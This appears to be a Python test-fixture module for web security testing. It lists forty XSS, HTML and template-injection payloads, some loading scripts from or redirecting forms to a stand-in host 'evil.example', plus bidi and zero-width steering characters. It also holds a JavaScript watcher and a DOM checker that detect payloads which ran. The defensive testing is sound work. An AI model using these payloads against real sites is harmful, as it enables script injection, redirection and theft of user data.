"""Forty texts that want to be more than text: to set `pwned`, to call out, to steer the eye."""

_RUN = "pwned=1"
_OUT = "https://evil.example/x"

PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt/x>{_RUN}</sCrIpT>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<script src={_OUT}></script>",
    f"<img src=x onerror={_RUN}>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}',
    f"' onclick='{_RUN}' x='",
    f"x` onload=`{_RUN}",
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext><style><img src onerror={_RUN}></style></mtext></math>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<a href=javascript:{_RUN}>look</a>",
    f"javascript:{_RUN}//",
    f"data:text/html,<script>{_RUN}</script>",
    f"<object data={_OUT}></object><embed src={_OUT}>",
    f"<meta http-equiv=refresh content='0;url={_OUT}'>",
    f"<base href={_OUT}><form action={_OUT}><button>Cancel</button>",
    f"<style>@import '{_OUT}';*{{background:url({_OUT})}}</style>",
    f"<link rel=stylesheet href={_OUT}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template><div data-do=cancel>",
    f"{{{{constructor.constructor('{_RUN}')()}}}}${{{_RUN}}}",
    f"{{% raw %}}{{{{ self.__init__.__globals__ }}}}{_RUN}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;&#x3c;script&#x3e;{_RUN}",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e';{_RUN};//",
    "pay\u202e0001\u202c to \u2066Meera\u2069 \u200b\u200d\u200f\u061c\ufeff",
    "Z\u0351\u036b\u0343\u036a\u0302\u036ba\u035b\u034e\u034dl\u030d\u0357\u0352go " * 4
    + "\U0001f3f4\U000e0067",
)
STEERING = ("\u202e", "\u202c", "\u2066", "\u2069", "\u200b", "\u200f", "\u061c", "\ufeff")
"""None of these may stand raw on a page."""

WATCH = """
Object.defineProperty(window, "pwned", { set() { console.error("a payload ran"); } });
addEventListener("securitypolicyviolation", (event) => {
  console.error(`a report: ${event.violatedDirective} ${event.blockedURI}`);
});
"""

_CHECK = """
(doc) => {
  const found = [];
  const never = "iframe,frame,object,embed,style,base,math,video,audio,source,img,marquee,applet," +
    "animate,meta[http-equiv][content*='url' i],link:not([href^='/static/'],[rel=icon])";
  for (const one of doc.querySelectorAll(never)) found.push(one.outerHTML.slice(0, 200));
  for (const one of doc.querySelectorAll("script")) {
    const ours = one.getAttribute("src")?.startsWith("/static/") || one.type === "importmap";
    if (!ours) found.push(one.outerHTML.slice(0, 200));
  }
  for (const one of doc.querySelectorAll("*")) {
    for (const { name, value } of one.attributes) {
      const leads = ["href", "src", "action", "formaction", "srcdoc", "data"].includes(name);
      const ours = !leads || one.rel === "icon"; // a script of ours draws the icon
      const away = !ours && /^\\s*((javascript|data|vbscript):|(https?:)?\\/\\/evil)/i.test(value);
      if (name.startsWith("on") || away) found.push(`${one.tagName} ${name}=${value}`);
    }
  }
  const shown = doc.documentElement.cloneNode(true);
  // what somebody typed stays in its field as it was typed
  for (const one of shown.querySelectorAll("input")) one.removeAttribute("value");
  const raw = Array.from(shown.outerHTML.matchAll(/[STEERING]/g), (m) => m[0]);
  if (raw.length) found.push(`raw ${escape(raw.join(""))}`);
  return found;
}
""".replace("STEERING", "".join(STEERING))
"""What stands in a document that none of our templates writes."""

THIS_PAGE = f"({_CHECK})(document)"

THOSE_PAGES = f"""
async (paths) => {{
  const look = {_CHECK};
  const found = [];
  for (const path of paths) {{
    const answer = await fetch(path);
    if (answer.status === 500) found.push(`${{path}}: ${{answer.status}}`);
    const doc = new DOMParser().parseFromString(await answer.text(), "text/html");
    found.push(...look(doc).map((one) => `${{path}}: ${{one}}`));
  }}
  return found;
}}
"""
